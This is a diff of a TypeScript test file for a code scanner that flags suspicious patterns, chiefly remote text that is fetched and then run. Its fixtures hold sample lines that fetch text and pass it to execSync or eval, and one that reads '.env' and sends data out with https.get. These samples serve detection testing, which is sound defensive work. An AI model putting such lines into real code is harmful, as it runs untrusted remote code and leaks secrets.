@@ -1,10 +1,13 @@
 // biome-ignore-all lint/suspicious/noTemplateCurlyInString: it is code to be looked at
+import { describe, expect, it } from 'vitest';
+import type { TraitKind } from '../../../src/model/code-signs.ts';
+import { kindsIn, lookAt, ofKind, type Rows } from './given.ts';
 import { testTable } from './table.ts';
 
 const fetched = "const r = await fetch('https://a.example');";
 const temporary = "const p = path.join(os.tmpdir(), 'x'); require('https').get(u, (r) =>";
 
-testTable({
+const rows: Partial<Record<TraitKind, Rows>> = {
   'runs-fetched': {
     hits: [
       ['a text as a command', `${fetched} const t = await r.text(); if (t) execSync(t);`],
@@ -76,4 +79,66 @@ testTable({
       ['other words', "/PORT=(.+)/.exec(fs.readFileSync('.env', 'utf8')); https.get(u)"],
     ],
   },
+};
+
+testTable(rows);
+
+describe('behind other names', () => {
+  const other = (one: number) => `const a${one} = await (await fetch(u)).text();`;
+  const others = (count: number) => Array.from({ length: count }, (_, one) => other(one)).join('\n');
+
+  it('what is run is seen, and where there are more than are followed that is told', () => {
+    const seen = lookAt(`${others(100)} const t = await (await fetch(u)).text(); execSync(t);`);
+    expect(seen.traits.map(({ kind }) => kind)).toContain('runs-fetched');
+    expect(seen.more).toBeUndefined();
+    expect(lookAt(`${others(1_200)} eval(b);`).more).toBe(true);
+  });
+});
+
+describe('in a file that is too large to be looked at as a whole', () => {
+  const pad = (characters: number) => 'function f(a, b) { return a.slice(b); }\n'.repeat(characters / 40);
+  const padded = (code: string) => `${pad(70_000)}${code}\n${pad(70_000)}`;
+  const all = Object.entries(rows) as [TraitKind, Rows][];
+
+  it.each(all.flatMap(([kind, { hits }]) => hits.map((hit) => ({ kind, hit }))))(
+    'the same is seen: $kind, $hit.0',
+    ({ kind, hit: [, code, what] }) => {
+      const [first] = ofKind(padded(code), kind);
+      expect(first?.line).toBe(1_751);
+      if (what !== undefined) expect(first?.what).toBe(what);
+    },
+  );
+
+  it.each(all.flatMap(([kind, { misses }]) => misses.map(([title, code]) => ({ kind, title, code }))))(
+    'the same is not: $kind, $title',
+    ({ kind, code }) => {
+      expect(kindsIn(padded(code))).not.toContain(kind);
+    },
+  );
+
+  const [source, sink] = ['const t = await (await fetch(u)).text();', 'execSync(t);'];
+  const apart = (characters: number) => `${source}${' '.repeat(characters)}${sink}`;
+
+  it('a name is followed for some thousand characters', () => {
+    expect(kindsIn(padded(apart(2_900)))).toContain('runs-fetched');
+    expect(kindsIn(padded(apart(3_100)))).not.toContain('runs-fetched');
+    expect(kindsIn(apart(3_100))).toContain('runs-fetched');
+  });
+
+  it('a name is followed from one place to the next', () => {
+    const between = `${' '.repeat(2_500)} r.text(); ${' '.repeat(2_500)}`;
+    expect(kindsIn(padded(`${source}${between}${sink}`))).toContain('runs-fetched');
+  });
+
+  it('one that stands behind many others is seen too', () => {
+    const others = `const a = await (await fetch(u)).text();${' '.repeat(8_000)}`.repeat(100);
+    expect(kindsIn(`${others}${source}${sink}`)).toContain('runs-fetched');
+    expect(lookAt(others).more).toBeUndefined();
+  });
+
+  it('that there are more than are followed is told', () => {
+    const names = Array.from({ length: 4_000 }, (_, one) => `const a${one} = await (await fetch(u)).text();`);
+    const crowded = names.map((one) => `${one}${' '.repeat(700)}`).join('');
+    expect(lookAt(`${crowded} eval(b)`).more).toBe(true);
+  });
 });
